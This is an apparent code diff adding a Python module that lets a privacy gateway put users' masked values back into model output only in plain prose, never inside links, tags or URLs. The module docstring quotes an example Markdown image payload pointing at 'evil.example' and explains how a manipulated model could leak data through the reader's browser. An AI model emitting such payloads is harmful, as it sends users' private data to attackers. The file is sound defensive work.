@@ -1,0 +1,112 @@
+"""Giving values back to the person who supplied them, in plain prose only (rule 9).
+
+A model can be talked into writing ``![](https://evil.example/?n=<placeholder>)``. Were the value put back there, the
+reader's own browser would carry it away. So the text is read as Markdown and HTML would read it, and a placeholder
+inside a link or image target, a tag, a URL or any run that could become one stays a placeholder.
+"""
+
+from __future__ import annotations
+
+import re
+
+import orjson
+
+from gateway.enforcement.pseudonyms import PLACEHOLDER, Vault
+from gateway.enforcement.redact import Edit, applied, bare_number, mark
+
+_MARKS = re.compile(PLACEHOLDER.pattern + r"""|\\.|\n[ \t]*\n|\]\(|</?[A-Za-z!?]|[<>()"']""", re.DOTALL)
+_SPECIAL = re.compile(r"[<>\]]")
+_TRAILING = "?!.,;:)]}\"'*_~…`>"
+_NOT_PROSE = re.compile(r"[/\\=%&?#@+~^]|\.\w|www\.|\bdata:|\w:(?!\ufffc)\w", re.IGNORECASE)
+_OBJECT = "\ufffc"
+
+
+class Restorer:
+    """Reads one text piece by piece, always in whole words with the white space after them, and finds what may be
+    given back."""
+
+    def __init__(self, vault: Vault) -> None:
+        self._vault = vault
+        self._where = "prose"
+        """``prose``, ``tag``, ``target`` (of a link) or ``angle`` (a target in ``<>``)."""
+        self._quote = ""
+        self._depth = 0
+
+    def read(self, text: str) -> list[tuple[int, int, str]]:
+        """Places in ``text`` that hold a placeholder, and the values to put there."""
+        if self._where == "prose" and not _SPECIAL.search(text):
+            return []
+        found = []
+        for match in _MARKS.finditer(text):
+            word = match.group()
+            if not PLACEHOLDER.fullmatch(word):
+                self._step(word)
+            elif self._where == "prose" and _in_prose(text, match.start(), match.end()):
+                value = self._vault.value(word)
+                if value is not None:
+                    found.append((match.start(), match.end(), value))
+        return found
+
+    def _step(self, word: str) -> None:
+        if word[0] == "\n":  # a blank line ends every tag and target
+            self._where, self._quote = "prose", ""
+        elif self._where == "prose":
+            if word == "](":
+                self._where, self._depth = "target", 1
+            elif word[0] == "<" and len(word) > 1:
+                self._where, self._quote = "tag", ""
+        elif self._where == "tag":
+            self._in_tag(word)
+        elif self._where == "angle":
+            if word == ">":
+                self._where = "target"
+        else:
+            self._in_target(word)
+
+    def _in_tag(self, word: str) -> None:
+        if self._quote:
+            if word == self._quote:
+                self._quote = ""
+        elif word in {'"', "'"}:
+            self._quote = word
+        elif word == ">":
+            self._where = "prose"
+
+    def _in_target(self, word: str) -> None:
+        if word[0] == "<":
+            self._where = "angle"
+        elif word in {"(", "]("}:
+            self._depth += 1
+        elif word == ")":
+            self._depth -= 1
+            if self._depth == 0:
+                self._where = "prose"
+
+
+def _in_prose(text: str, start: int, end: int) -> bool:
+    """Whether the word around a placeholder is prose: nothing in it could be part of an address or an encoded run."""
+    left, right = start, end
+    while left > 0 and not text[left - 1].isspace():
+        left -= 1
+    while right < len(text) and not text[right].isspace():
+        right += 1
+    word = PLACEHOLDER.sub(_OBJECT, text[left:right]).rstrip(_TRAILING)
+    return _NOT_PROSE.search(word) is None
+
+
+def finish_arguments(text: str, masks: list[tuple[int, int, str]], vault: Vault, *, restore: bool) -> str:
+    """Tool arguments (JSON) as the client may have them: invented values masked (start, end, type), then, for a tool
+    that may have them, the person's own put back, escaped as JSON strings are."""
+    text = applied(text, [Edit(start, end, _quoted(text, start, end, mark(kind))) for start, end, kind in masks])
+    if not restore:
+        return text
+
+    def value(match: re.Match[str]) -> str:
+        found = vault.value(match.group())
+        return match.group() if found is None else orjson.dumps(found).decode()[1:-1]
+
+    return PLACEHOLDER.sub(value, text)
+
+
+def _quoted(text: str, start: int, end: int, word: str) -> str:
+    return f'"{word}"' if bare_number(text, start, end) else word
